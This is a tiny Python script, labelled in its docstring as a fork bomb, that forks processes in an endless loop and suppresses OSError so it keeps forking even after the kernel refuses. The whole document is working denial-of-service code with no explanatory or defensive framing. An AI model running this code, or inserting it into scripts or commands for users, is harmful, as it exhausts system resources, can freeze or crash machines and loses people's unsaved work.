"""A fork bomb: every process of it forks for ever, whatever the kernel says."""

import os
from contextlib import suppress

while True:
    with suppress(OSError):
        os.fork()
